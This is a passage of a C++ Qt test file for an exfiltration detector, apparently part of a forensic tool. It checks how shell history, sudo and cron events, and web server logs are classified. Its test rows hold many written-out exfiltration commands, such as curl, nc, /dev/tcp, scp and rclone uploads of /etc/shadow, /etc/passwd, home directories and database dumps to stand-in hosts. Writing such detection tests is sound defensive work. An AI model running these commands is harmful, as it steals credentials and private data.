#include "case/reader.hpp"
#include "exfiltration/command.hpp"
#include "exfiltration/detector.hpp"
#include "plugin/network_address.hpp"
#include "support/case_fixture.hpp"
#include "support/test_main.hpp"

using namespace deadbox;
namespace exfiltration = plugins::exfiltration;

namespace {

constexpr std::int64_t k_first_command = 1'772'352'000;  // 2026-03-01T08:00:00Z

std::string access_line(const std::string& address, const std::string& path, int status, std::int64_t bytes, const std::string& referer = "-") {
    return address + " - - [01/Mar/2026:09:00:00 +0000] \"GET " + path + " HTTP/1.1\" " + std::to_string(status) + " " + std::to_string(bytes) + " \"" + referer + "\" \"curl/7.88.1\"\n";
}

// A site, and its access log.
std::int64_t use_webshell(test::CaseFixture& fixture, const std::string& log) {
    fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
    test::FileSpec spec;
    spec.path = "/var/log/apache2/access.log", spec.bytes = log;
    return fixture.add_parsed("access_log", spec);
}

// Counts what a detector asks.
class CountingReader final : public plugin::CaseReader {
public:
    explicit CountingReader(const plugin::CaseReader& reader) : m_reader(reader) {}
    base::Result<void> query(std::string_view sql, std::span<const plugin::Value> parameters, base::FunctionRef<base::Next(const plugin::RowView&)> visit) const override {
        ++m_count;
        return m_reader.query(sql, parameters, visit);
    }
    base::Result<std::string> kept_text(std::int64_t inode) const override { return m_reader.kept_text(inode); }
    int count() const { return m_count; }

private:
    const plugin::CaseReader& m_reader;
    mutable int m_count = 0;
};
class CountingSink final : public plugin::FindingSink {
public:
    void finding(const plugin::FindingHead&) override { ++findings; }
    void item(const plugin::Item&) override {}
    void gap(const base::Gap&) override {}
    int findings = 0;
};

}  // namespace

class ExfiltrationTest : public QObject {
    Q_OBJECT
private slots:
    void commands_data() {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<QString>("found");  // "" for nothing
        const auto row = [](const char* line, const char* found) { QTest::newRow(line) << QByteArray(line) << QString(found); };
        row("curl -u martina:x https://files.example.org/x -T shop.sql", "curl shop.sql -> files.example.org data");
        row("curl -sT /tmp/a.tgz transfer.sh", "curl /tmp/a.tgz -> transfer.sh data");
        row("curl --upload-file=./notes.txt https://transfer.sh/notes.txt", "curl ./notes.txt -> transfer.sh");
        row("curl -F 'file=@/etc/shadow' https://0x0.st", "curl /etc/shadow -> 0x0.st data");
        row("curl -X POST --data-binary @dump.bin https://198.51.100.7:8443/in", "curl dump.bin -> 198.51.100.7");
        row("curl -d 'name=x&mail=a@b.example' https://example.org/form", "");
        row("curl -o x.tgz https://example.org/x.tgz", "");
        row("curl --data-raw @x https://example.org/", "");
        row("mysqldump shop | curl -T - ftp://198.51.100.7/", "curl output of mysqldump -> 198.51.100.7 data");
        row("wget --post-file=/etc/passwd http://198.51.100.7/", "wget /etc/passwd -> 198.51.100.7 data");
        row("wget http://example.org/x.tgz", "");
        row("scp -P 2222 /root/shop.sql eve@198.51.100.7:/tmp/", "scp /root/shop.sql -> 198.51.100.7 data");
        row("scp eve@198.51.100.7:/tmp/x.tgz .", "");
        row("sudo -u www-data scp -i k a.txt host.example.org:", "scp a.txt -> host.example.org");
        row("rsync -az --delete -e 'ssh -p 22' /srv/www/ backup@backup.example.org:/srv/", "rsync /srv/www/ -> backup.example.org");
        row("rsync -a host.example.org:/x /y", "");
        row("rsync -a rsync://mirror.example.org/debian /srv/mirror", "");
        row("rsync -a /var/lib/mysql/ rsync://198.51.100.7/in/", "rsync /var/lib/mysql/ -> 198.51.100.7 data");
        row("rclone copy /srv/customers.zip mega:x", "rclone /srv/customers.zip -> rclone mega: data");
        row("rclone copy mega:x /srv", "");
        row("rclone copy /tmp/shop.sql :sftp,host=198.51.100.77,user=up:x", "rclone /tmp/shop.sql -> 198.51.100.77 data");
        row("rclone copy /tmp/shop.sql :s3,env_auth:bucket", "rclone /tmp/shop.sql -> rclone :s3: data");
        row("openssl enc -aes-256-cbc -k pw -in /tmp/shop.sql | nc 198.51.100.77 4444", "nc output of openssl /tmp/shop.sql -> 198.51.100.77 raw data");
        row("sudo tar czf - /home | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
        row("megaput -u a@b.example -p Geheim-31 /srv/kunden.zip", "megaput /srv/kunden.zip -> megaput data");
        row("croc send --code 1234-blau-rot-gold /srv/kunden.zip", "croc /srv/kunden.zip -> croc data");
        row("gdrive upload --access-token ya29.abc /srv/kunden.zip", "gdrive /srv/kunden.zip -> gdrive data");
        row("aws s3 cp dump.sql.gz s3://bucket/a/b", "aws dump.sql.gz -> s3://bucket data");
        row("aws s3 cp s3://bucket/a .", "");
        row("mail -s x drop@files.example -A /srv/dump.sql < /dev/null", "mail /srv/dump.sql -> files.example data");
        row("echo hi | mutt -s x -a /srv/kunden.zip -- drop@files.example", "mutt /srv/kunden.zip -> files.example data");
        row("swaks --to drop@files.example --server mx --attach @/etc/shadow", "swaks /etc/shadow -> files.example data");
        row("mysqldump shop | gzip | mail -s x drop@files.example", "mail output of mysqldump -> files.example data");
        row("mail -s shadow drop@files.example < /etc/shadow", "mail /etc/shadow -> files.example data");
        row("df -h | mail -s report admin@example.org", "");
        row("mail -s report admin@example.org < /tmp/report.txt", "");
        row("echo x | mail -a 'From: root <root@example.org>' -s x admin@example.org", "");
        row("tar czf - /etc | mail root", "");
        row("nc 198.51.100.7 4444 < /etc/shadow", "nc /etc/shadow -> 198.51.100.7 raw data");
        row("tar czf - /home | nc -q 1 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
        row("tar cf - /home | gzip | base64 | nc 198.51.100.7 4444", "nc output of tar /home -> 198.51.100.7 raw data");
        row("nc -lvp 4444 < x.tgz", "");
        row("echo QUIT | nc mail.example.org 25", "");
        row("cat /etc/passwd > /dev/tcp/198.51.100.7/80", "/dev/tcp /etc/passwd -> 198.51.100.7 raw data");
        row("exec 3<>/dev/tcp/198.51.100.7/80", "");
        row("pg_dumpall | ssh eve@198.51.100.7 'cat > x'", "ssh output of pg_dumpall -> 198.51.100.7 data");
        row("openssl s_client -quiet -connect 198.51.100.7:443 < dump.sql", "openssl dump.sql -> 198.51.100.7 raw data");
        row("openssl s_client -connect example.org:443 < /dev/null", "");
        row("lftp -e 'put shop.sql; bye' -u a,b ftp.example.org", "lftp shop.sql -> ftp.example.org data");
        row("cd /tmp && tar czf w.tgz /var/www; curl -F f=@w.tgz https://file.io", "curl w.tgz -> file.io data");
        row("# curl -T x.sql https://transfer.sh", "");
        row("echo 'curl -T x.sql https://transfer.sh'", "");
        row("mysqldump -u shop -pgeheim shop > /root/shop.sql", "");
        row("grep curl /var/log/syslog | tail", "");
        row("curl", "");
        row("'", "");
    }
    void commands() {
        QFETCH(QByteArray, line);
        QFETCH(QString, found);
        const auto transfer = exfiltration::transfer_in(line.toStdString());
        QString got;
        if (transfer) {
            got = QString::fromStdString(transfer->program);
            if (transfer->piped) got += " output of";
            for (const auto& what : transfer->what) got += " " + QString::fromStdString(what);
            got += " -> " + QString::fromStdString(transfer->target);
            if (transfer->means == exfiltration::Means::raw) got += " raw";
            if (transfer->data) got += " data";
        }
        QCOMPARE(got, found);
    }

    void sent_data() {
        QTest::addColumn<QByteArray>("history");
        QTest::addColumn<QString>("found");  // target severity confidence
        QTest::newRow("nothing") << QByteArray("ls\ncd /tmp\n") << QString();
        QTest::newRow("to a service for anybody") << QByteArray("curl -F file=@notes.txt https://file.io\n") << "file.io 2 1";
        QTest::newRow("below such a service") << QByteArray("curl -T a.sql https://x.trycloudflare.com/\n") << "x.trycloudflare.com 2 1";
        QTest::newRow("a name that only ends like one") << QByteArray("curl -T notes.txt https://profile.io/\n") << "profile.io 1 0";
        QTest::newRow("bare connection outside") << QByteArray("nc 198.51.100.7 9 < /etc/shadow\n") << "198.51.100.7 2 1";
        QTest::newRow("bare connection to a neighbour") << QByteArray("tar c /srv | nc 192.168.1.5 9000\n") << "192.168.1.5 1 0";
        QTest::newRow("a dump to some host") << QByteArray("scp shop.sql me@old.example.org:\n") << "old.example.org 2 0";
        QTest::newRow("a file to some host") << QByteArray("scp motd me@old.example.org:\n") << "old.example.org 1 0";
        QTest::newRow("a copy to the machine for copies") << QByteArray("rsync -a /srv/ backup@nas:/vol/\n") << "nas 1 0";
        QTest::newRow("the hashes of all passwords, to a neighbour") << QByteArray("scp /etc/shadow me@10.0.0.9:\n") << "10.0.0.9 2 0";
        QTest::newRow("a copy of all settings, to a neighbour") << QByteArray("scp -r /etc me@10.0.0.9:\n") << "10.0.0.9 1 0";
        QTest::newRow("a copy inside") << QByteArray("scp db.sql.gz backup.corp.internal:\n") << "backup.corp.internal 1 0";
    }
    void sent() {
        QFETCH(QByteArray, history);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/root/.bash_history", spec.bytes = history.toStdString(), spec.modified = k_first_command;
        fixture.add_parsed("shell_history", spec);
        QString got;
        for (const auto& f : fixture.detect("exfiltration")) {
            got += QStringLiteral("%1 %2 %3").arg(QString::fromStdString(f.subject)).arg(f.severity).arg(f.confidence);
            QCOMPARE(f.rule, std::string("exfiltration/sent"));
            QCOMPARE(f.first_s.value_or(0), k_first_command);
            QVERIFY(f.arguments.contains("written"));  // a history without times: the finding says whose time it tells
            QCOMPARE(f.items.at(0).path, spec.path);
            QCOMPARE(f.items.at(0).line.value_or(0), std::int64_t{1});
        }
        QCOMPARE(got, found);
    }
    void sent_through_sudo_and_not_through_cron() {
        test::CaseFixture fixture;
        fixture.event("cron.command", k_first_command, "root", {}, "{\"command\": \"mysqldump shop | curl -T - https://transfer.sh/x\"}");
        QVERIFY(fixture.detect("exfiltration").empty());
        fixture.event("auth.sudo.command", k_first_command + 60, "deploy", {}, "{\"command\": \"/usr/bin/curl -T /root/shop.sql https://transfer.sh/x\"}");
        const auto findings = fixture.detect("exfiltration");
        QCOMPARE(findings.size(), std::size_t{1});
        QCOMPARE(findings[0].items.at(0).key, std::string("deploy"));
        QCOMPARE(findings[0].arguments.value("what", ""), std::string("/root/shop.sql"));
        QVERIFY(!findings[0].arguments.contains("written"));
    }

    void downloads_data() {
        QTest::addColumn<QString>("file");   // path below the root, size in kB, made so many days before the request; "" for none
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // subject confidence
        const std::string a = "198.51.100.7";
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        QTest::newRow("a dump") << "shop.sql.gz 900 100" << log(access_line(a, "/shop.sql.gz", 200, 900'000)) << "/var/www/html/shop.sql.gz 1";
        QTest::newRow("a dump in pieces") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 206, 500'000) + access_line(a, "/shop.sql", 206, 400'100)) << "/var/www/html/shop.sql 1";
        QTest::newRow("a dump, refused") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 403, 900'000)) << "";
        QTest::newRow("an error page with 200") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 200, 7'000)) << "";
        QTest::newRow("names that are not there, answered with a page") << "" << log(access_line(a, "/backup.zip", 200, 2'000'000) + access_line(a, "/db.sql", 200, 2'000'000) + access_line(a, "/www.zip", 200, 2'000'000)) << "";
        QTest::newRow("a dump that is gone") << "" << log(access_line(a, "/db.sql", 200, 2'000'000)) << "/db.sql 0";
        QTest::newRow("an archive made the day before") << "site.tar.gz 900 1" << log(access_line(a, "/site.tar.gz", 200, 900'000)) << "/var/www/html/site.tar.gz 0";
        QTest::newRow("an archive of long ago") << "program-1.2.tar.gz 900 200" << log(access_line(a, "/program-1.2.tar.gz", 200, 900'000)) << "";
        QTest::newRow("a release that many fetch") << "program-1.3.tar.gz 900 1"
            << log(access_line("198.51.100.1", "/program-1.3.tar.gz", 200, 900'000) + access_line("198.51.100.2", "/program-1.3.tar.gz", 200, 900'000) + access_line("198.51.100.3", "/program-1.3.tar.gz", 200, 900'000) +
                   access_line("198.51.100.4", "/program-1.3.tar.gz", 200, 900'000)) << "";
        QTest::newRow("by a link") << "prices.zip 900 1" << log(access_line(a, "/prices.zip", 200, 900'000, "https://shop.example.org/")) << "";
    }
    void downloads() {
        QFETCH(QString, file);
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
        if (const auto part = file.split(' '); part.size() == 3) {
            test::FileSpec spec;
            spec.path = "/var/www/html/" + part[0].toStdString(), spec.size = part[1].toULongLong() * 1000;
            spec.born = k_first_command + 3600 - part[2].toLongLong() * 86400, spec.modified = spec.born, spec.digests = false;
            fixture.add(spec);
        }
        test::FileSpec spec;
        spec.path = "/var/log/apache2/access.log", spec.bytes = log.toStdString();
        fixture.add_parsed("access_log", spec);
        QString got;
        for (const auto& f : fixture.detect("exfiltration")) {
            if (f.rule != "exfiltration/web_download") continue;
            QCOMPARE(f.severity, 2);
            QCOMPARE(f.items.at(0).path, spec.path);
            got += QStringLiteral("%1 %2").arg(QString::fromStdString(f.subject)).arg(f.confidence);
        }
        QCOMPARE(got, found);
    }

    // Whoever asks for it, it lay open: but only an answer as long as the file is shows it.
    void credentials_given_out_data() {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("found");  // subject confidence clients [severity where it is not medium]
        const std::string a = "198.51.100.7", b = "198.51.100.8";
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        QTest::newRow("settings") << ".env" << log(access_line(a, "/.env", 200, 200)) << "/var/www/html/.env 1 1";
        QTest::newRow("with the answer's head counted, to two") << ".env" << log(access_line(a, "/.env", 200, 460) + access_line(b, "/.env", 200, 460)) << "/var/www/html/.env 1 2";
        QTest::newRow("packed") << ".env" << log(access_line(a, "/.env", 200, 120)) << "/var/www/html/.env 0 1";
        QTest::newRow("refused") << ".env" << log(access_line(a, "/.env", 403, 200)) << "";
        QTest::newRow("a page of the site's own") << ".env" << log(access_line(a, "/.env", 200, 18'000)) << "";
        QTest::newRow("not there, answered with a page") << "" << log(access_line(a, "/.env", 200, 200)) << "";
        QTest::newRow("in a hidden folder") << ".git/config" << log(access_line(a, "/.git/config", 200, 200)) << "/var/www/html/.git/config 1 1";
        QTest::newRow("a key") << "id_rsa" << log(access_line(a, "/id_rsa", 200, 200)) << "/var/www/html/id_rsa 1 1";
        QTest::newRow("a copy of a script") << "wp-config.php.bak" << log(access_line(a, "/wp-config.php.bak", 200, 200)) << "/var/www/html/wp-config.php.bak 1 1";
        QTest::newRow("an editor's copy") << "wp-config.php~" << log(access_line(a, "/wp-config.php~", 200, 200)) << "/var/www/html/wp-config.php~ 1 1";
        const auto four = [&](const std::string& path) {
            std::string all;
            for (int i = 1; i < 5; ++i) all += access_line("198.51.100." + std::to_string(i), path, 200, 200);
            return log(all);
        };
        QTest::newRow("to whoever asks") << ".env" << four("/.env") << "/var/www/html/.env 0 everybody 4";
        QTest::newRow("of a page that everybody visits") << "config.json" << four("/config.json") << "/var/www/html/config.json 0 everybody 4 1";
        QTest::newRow("to a neighbour") << ".env" << log(access_line("10.0.0.5", "/.env", 200, 200)) << "/var/www/html/.env 1 1 1";
        QTest::newRow("the script itself is run, not shown") << "wp-config.php" << log(access_line(a, "/wp-config.php", 200, 200)) << "";
        QTest::newRow("nothing secret") << "robots.txt" << log(access_line(a, "/robots.txt", 200, 200)) << "";
    }
    void credentials_given_out() {
        QFETCH(QString, file);
        QFETCH(QByteArray, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
        if (!file.isEmpty()) {
            test::FileSpec spec;
            spec.path = "/var/www/html/" + file.toStdString(), spec.size = 200, spec.digests = false;
            const auto none = std::string_view();
            fixture.row("credential", {std::string_view("password"), std::string_view("DB_PASSWORD"), none, none, none, none, std::string_view("open"), std::int64_t{1}, std::string_view("Bergsee31")}, fixture.add(spec));
        }
        test::FileSpec spec;
        spec.path = "/var/log/apache2/access.log", spec.bytes = log.toStdString();
        fixture.add_parsed("access_log", spec);
        QString got;
        for (const auto& f : fixture.detect("exfiltration")) {
            if (f.rule != "exfiltration/secret_served") continue;
            const bool everybody = f.arguments.contains("everybody");
            QCOMPARE(f.items.at(0).path, spec.path);
            QCOMPARE(f.items.at(0).key.empty(), everybody);  // then nobody is named
            QCOMPARE(f.arguments.contains("address"), !everybody);
            got += QStringLiteral("%1 %2 %3").arg(QString::fromStdString(f.subject)).arg(f.confidence).arg(everybody ? QString::fromStdString("everybody " + f.arguments["everybody"].get<std::string>()) : QString::fromStdString(f.arguments.value("clients", "1")));
            if (f.severity != 2) got += QStringLiteral(" %1").arg(f.severity);
        }
        QCOMPARE(got, found);
    }

    // Of several who fetched a file each has what he had himself; those of the machine's own network take nobody else's place.
    void fetched_by_several_data() {
        QTest::addColumn<QByteArray>("older");   // a log that was rotated
        QTest::addColumn<QByteArray>("newer");
        QTest::addColumn<QString>("found");      // severity address count clients lines hour
        const std::string a = "192.0.2.66", admin = "10.0.0.5", b = "198.51.100.9";
        const auto one = [](const std::string& address, int hour, std::int64_t bytes = 900'000) {
            auto line = access_line(address, "/dump.sql.gz", 200, bytes);
            return line.replace(line.find(":09:"), 4, hour < 10 ? ":0" + std::to_string(hour) + ":" : ":" + std::to_string(hour) + ":");
        };
        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
        QTest::newRow("one") << log("") << log(one(a, 9)) << "2 192.0.2.66 1 1 1 9";
        QTest::newRow("an administrator afterwards, in the next log") << log(one(a, 9)) << log(one(admin, 20)) << "2 192.0.2.66 1 1 2 9";
        QTest::newRow("an administrator before, in an older log") << log(one(admin, 8)) << log(one(a, 9)) << "2 192.0.2.66 1 1 2 9";
        QTest::newRow("an administrator afterwards, with a longer head") << log("") << log(one(a, 9, 900'238) + one(admin, 20, 900'301)) << "2 192.0.2.66 1 1 2 9";
        QTest::newRow("an administrator alone, in two logs") << log(one(admin, 8)) << log(one(admin, 9)) << "1 10.0.0.5 2 1 2 8";
        QTest::newRow("twice, in two logs") << log(one(a, 8)) << log(one(a, 9)) << "2 192.0.2.66 2 1 2 8";
        QTest::newRow("two strangers") << log(one(b, 8)) << log(one(a, 9) + one(a, 10)) << "2 198.51.100.9 1 2 2 8";
    }
    void fetched_by_several() {
        QFETCH(QByteArray, older);
        QFETCH(QByteArray, newer);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        use_webshell(fixture, newer.toStdString());
        test::FileSpec spec;
        spec.path = "/var/log/apache2/access.log.1", spec.bytes = older.toStdString();
        fixture.add_parsed("access_log", spec);
        spec = {};
        spec.path = "/var/www/html/dump.sql.gz", spec.size = 900'000, spec.digests = false;
        fixture.add(spec);
        QStringList got;
        for (const auto& f : fixture.detect("exfiltration")) {
            QCOMPARE(f.rule, std::string("exfiltration/web_download"));
            QCOMPARE(f.item_count, std::int64_t(f.items.size()));
            got << QStringLiteral("%1 %2 %3 %4 %5 %6").arg(f.severity).arg(QString::fromStdString(f.arguments.value("address", "")), QString::fromStdString(f.arguments.value("count", "1")), QString::fromStdString(f.arguments.value("clients", "1")))
                       .arg(std::count_if(f.items.begin(), f.items.end(), [](const auto& item) { return !item.key.empty(); })).arg((f.first_s.value_or(0) - k_first_command) / 3600 + 8);
        }
        QCOMPARE(got, QStringList{found});
    }

    // Whatever a scanner is answered, a file that lies there is not forgotten for it.
    void many_names_that_are_not_there() {
        test::CaseFixture fixture;
        std::string log;
        for (int i = 0; i < 5'500; ++i) log += access_line("198.51.100.9", "/backup" + std::to_string(i) + ".zip", 200, 4'800);
        use_webshell(fixture, log + access_line("203.0.113.77", "/uploads/dump.sql.gz", 200, 900'000));
        test::FileSpec spec;
        spec.path = "/var/www/html/uploads/dump.sql.gz", spec.size = 900'000, spec.digests = false;
        fixture.add(spec);
        const auto findings = fixture.detect("exfiltration");
        QCOMPARE(findings.size(), std::size_t{1});
        QCOMPARE(findings[0].arguments.value("address", ""), std::string("203.0.113.77"));
    }

    // A folder is looked through once, however much of it was asked for.
    void a_folder_is_looked_through_once() {
        const auto ask = [](int requests, bool somebody) {
            test::CaseFixture fixture;
            std::string log;
            for (int i = 0; i < requests; ++i) log += access_line("198.51.100.9", "/d/p" + std::to_string(i) + ".sql", 200, 90'000);
            use_webshell(fixture, log);
            test::FileSpec spec;
            for (int i = 0; i < 60; ++i) spec.path = "/var/www/html/d/p" + std::to_string(i) + ".sql", spec.size = 90'000, spec.digests = false, fixture.add(spec);
            constexpr std::string_view k_reads[] = {"web_use", "web_client", "web_root", "directory", "tree", "name", "inode", "credential"};
            const case_file::DetectorReader reader(fixture.database(), k_reads);
            const CountingReader counting(reader);
            CountingSink sink;
            int given = 0;
            const auto accused = [](std::int64_t, std::string_view) { return true; };
            const auto count = [&](const exfiltration::GivenOut&) { ++given; };
            if (!(somebody ? exfiltration::given_out_by_web(counting, sink, accused, count) : exfiltration::find_downloads(counting, sink))) return std::pair(-1, -1);
            return std::pair(counting.count(), given + sink.findings);
        };
        for (const bool somebody : {false, true}) {
            const auto few = ask(20, somebody), many = ask(600, somebody);
            QCOMPARE(few.second, 20);
            QCOMPARE(many.second, 60);
            QCOMPARE(many.first, few.first);
            QVERIFY2(many.first > 0 && many.first < 10, std::to_string(many.first).c_str());
        }
    }

    // Who used a shell is who posted, came again or came first, not who had its longest answer.
    void who_used_a_shell_data() {
        QTest::addColumn<QStringList>("asked");  // address agent method times bytes, by time
        QTest::addColumn<QStringList>("whom");   // to whom files that he fetched otherwise are held
        const QString intruder = "203.0.113.77 curl/8 GET 40 54", poster = "203.0.113.77 curl/8 POST 1 54", crawler = "66.249.66.1 Googlebot/2.1 GET 1 2100", scanner = "192.0.2.200 scanner GET 1 2100";
        const QStringList him{"203.0.113.77"};
        QTest::newRow("one") << QStringList{intruder} << him;
        QTest::newRow("and a crawler that followed a link") << QStringList{intruder, crawler} << him;
        QTest::newRow("a crawler first") << QStringList{crawler, intruder} << him;
        QTest::newRow("a crawler alone") << QStringList{crawler} << QStringList{};
        QTest::newRow("and a scanner") << QStringList{intruder, scanner} << him;
        QTest::newRow("who posts once, and a crawler first") << QStringList{crawler, poster} << him;
        QTest::newRow("among eight who came by") << QStringList{intruder, "192.0.2.1 a GET 1 60", "192.0.2.2 a GET 1 60", "192.0.2.3 a GET 1 60", "192.0.2.4 a GET 1 60", "192.0.2.5 a GET 1 60", "192.0.2.6 a GET 1 60", "192.0.2.7 a GET 1 60"} << him;
        QTest::newRow("from two addresses") << QStringList{intruder, "203.0.113.78 curl/8 GET 5 54"} << QStringList{"203.0.113.77", "203.0.113.78"};
        QTest::newRow("a page that everybody uses") << QStringList{"192.0.2.1 a GET 9 60", "192.0.2.2 a GET 9 60", "192.0.2.3 a GET 9 60", "192.0.2.4 a GET 9 60", intruder} << QStringList{};
    }
    void who_used_a_shell() {
        QFETCH(QStringList, asked);
        QFETCH(QStringList, whom);
        test::CaseFixture fixture;
        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'webshell/script', 1, 1, '/var/www/html/s.php', 3, 1, '{}', " + std::to_string(k_first_command) + ", 0, 0, NULL, NULL, 0, 0)");
        std::string log;
        int second = 0;
        for (const auto& one : asked) {
            const auto part = one.split(' ');
            const auto line = [&](const QString& request, int bytes) {
                return QStringLiteral("%1 - - [01/Mar/2026:09:%2:%3 +0000] \"%4 HTTP/1.1\" 200 %5 \"-\" \"%6\"\n").arg(part[0]).arg(second / 60, 2, 10, QChar('0')).arg(second % 60, 2, 10, QChar('0')).arg(request).arg(bytes).arg(part[1]).toStdString();
            };
            for (int i = 0; i < part[3].toInt(); ++i, ++second) log += line(part[2] + " /s.php", part[4].toInt());
            fixture.event("file.download", k_first_command + 7200, "anna", part[0].toStdString(), "{\"bytes\": 900000, \"file\": \"/srv/x.csv\", \"service\": \"ftp\"}");
        }
        fixture.sql("UPDATE event SET inode = " + std::to_string(use_webshell(fixture, log)) + " WHERE inode IS NULL");
        QStringList got;
        for (const auto& f : fixture.detect("transfers")) {
            QCOMPARE(f.rule, std::string("exfiltration/transfer"));
            got << QString::fromStdString(f.subject);
            QCOMPARE(f.arguments.value("count", ""), std::string("1"));
            QCOMPARE(f.arguments.value("size", ""), std::string("900 kB"));
        }
        QCOMPARE(got, whom);
    }

    void addresses_data() {
        QTest::addColumn<QString>("what");  // here, private, near
        const auto row = [](const char* host, const char* what) { QTest::newRow(host) << QString(what); };
        row("127.0.0.1", "here private near");
        row("::1", "here private near");
        row("localhost", "here private near");
        row("/run/mysqld/mysqld.sock", "here near");
        row("10.1.2.3", "private near");
        row("172.16.0.1", "private near");
        row("172.32.0.1", "");
        row("169.254.3.4", "private near");
        row("fd00::1", "private near");
        row("fe80::1", "private near");
        row("2001:db8::1", "");
        row("203.0.113.7", "");
        row("nas", "near");
        row("nas.lan", "near");
        row("fdroid.org", "");
        row("fc.example.org", "");
    }
    void addresses() {
        QFETCH(QString, what);
        const std::string host = QTest::currentDataTag();
        QStringList all;
        if (plugin::is_this_machine(host)) all += "here";
        if (plugin::is_private(host)) all += "private";
        if (exfiltration::is_near(host)) all += "near";
        QCOMPARE(all.join(' '), what);
    }

    // What a server of files gave out is nobody's business but that of whom other findings name.
    void transfers_data() {
        QTest::addColumn<QStringList>("findings");  // rule subject severity confidence hours [key]
        QTest::addColumn<QStringList>("events");    // type hours user address bytes
        QTest::addColumn<QString>("found");         // subject severity confidence count why
        const QStringList webshell{"webshell/script /var/www/html/s.php 3 1 0"}, guessed{"ssh/brute_force_success 198.51.100.7 3 1 0 anna"}, none;
        const QString shell = "/var/www/html/s.php";
        QTest::newRow("a healthy server of files") << none << QStringList{"file.download 1 bob 198.51.100.7 900000", "file.download 2 bob 198.51.100.7 900000"} << "";
        QTest::newRow("to the address that used the webshell") << webshell << QStringList{"file.download 1 bob 198.51.100.7 700", "file.download 2 bob 198.51.100.7 700"} << "198.51.100.7 3 1 2 webshell=" + shell;
        QTest::newRow("others on a server with a webshell") << webshell << QStringList{"file.download 1 bob 198.51.100.8 700"} << "";
        QTest::newRow("nothing went") << webshell << QStringList{"file.download 1 bob 198.51.100.7 0", "file.upload 1 bob 198.51.100.7 700"} << "";
        QTest::newRow("an address that was here long before") << webshell << QStringList{"auth.login.success -900 bob 198.51.100.7 0", "file.download 1 bob 198.51.100.7 700"} << "198.51.100.7 2 0 1 webshell=" + shell;
        QTest::newRow("a webshell that is only possible") << QStringList{"webshell/script /var/www/html/s.php 3 0 0"} << QStringList{"file.download 1 bob 198.51.100.7 700"} << "";
        QTest::newRow("to the address that guessed") << guessed << QStringList{"file.download 1 anna 198.51.100.7 700"} << "198.51.100.7 3 1 1 guessed=anna";
        QTest::newRow("by the guessed account from elsewhere, after") << guessed << QStringList{"file.download 1 anna 198.51.100.9 700"} << "198.51.100.9 2 0 1 taken=anna";
        QTest::newRow("by the guessed account from elsewhere, before") << guessed << QStringList{"file.download -9 anna 198.51.100.9 700"} << "";
        const QStringList perhaps{"ssh/brute_force_success 198.51.100.7 2 0 0 anna"};
        QTest::newRow("to an address that may have guessed") << perhaps << QStringList{"file.download 1 anna 198.51.100.7 700"} << "198.51.100.7 2 0 1 perhaps=anna";
        QTest::newRow("to an address that may have guessed, long before") << perhaps << QStringList{"file.download -30 anna 198.51.100.7 700"} << "";
        QTest::newRow("by an account that may have been guessed, from elsewhere") << perhaps << QStringList{"file.download 1 anna 198.51.100.9 700"} << "";
        QTest::newRow("by an account with root's id") << QStringList{"accounts/uid_zero_twin toor 4 2 0"} << QStringList{"file.download 1 toor 198.51.100.9 700"} << "198.51.100.9 3 1 1 made=toor";
        QTest::newRow("from where that account was used") << QStringList{"accounts/uid_zero_twin toor 4 2 0"} << QStringList{"auth.login.success 1 toor 198.51.100.9 0", "file.download 2 bob 198.51.100.9 700"} << "198.51.100.9 3 1 1 made=toor";
        QTest::newRow("by a new account") << QStringList{"accounts/new_account bob 2 1 0"} << QStringList{"file.download 1 bob 198.51.100.9 700"} << "198.51.100.9 1 0 1 named=bob";
        QTest::newRow("a session of a megabyte") << webshell << QStringList{"file.session 1 bob 198.51.100.7 2000000"} << "198.51.100.7 3 1 1 webshell=" + shell;
        QTest::newRow("through the web, to the address that used the webshell") << webshell << QStringList{"web 0 - 198.51.100.7 900000"} << "198.51.100.7 3 1 1 webshell=" + shell;
        QTest::newRow("through the web, to another") << webshell << QStringList{"web 0 - 198.51.100.8 900000"} << "";
        QTest::newRow("a page for whatever is asked for") << webshell << QStringList{"web 0 - 198.51.100.7 15000"} << "";
        QTest::newRow("what everybody fetches") << webshell << QStringList{"web 0 - 198.51.100.7 900000", "web 0 - 198.51.100.1 900000", "web 0 - 198.51.100.2 900000", "web 0 - 198.51.100.3 900000"} << "";
        QTest::newRow("through the web, by who guessed") << guessed << QStringList{"web 0 - 198.51.100.7 900000"} << "198.51.100.7 3 1 1 guessed=anna";
        QTest::newRow("a session that may be a list of names") << webshell << QStringList{"file.session 1 bob 198.51.100.7 2000"} << "";
    }
    void transfers() {
        QFETCH(QStringList, findings);
        QFETCH(QStringList, events);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        int number = 0;
        for (const auto& finding : findings) {
            const auto part = finding.split(' ');
            fixture.sql(QString("INSERT INTO finding VALUES('f%1', 'x', '%2', 1, 1, '%3', %4, %5, '{}', %6, 0, 0, NULL, NULL, 0, 0)")
                            .arg(++number).arg(part[0], part[1], part[2], part[3]).arg(k_first_command + part[4].toInt() * 3600).toStdString());
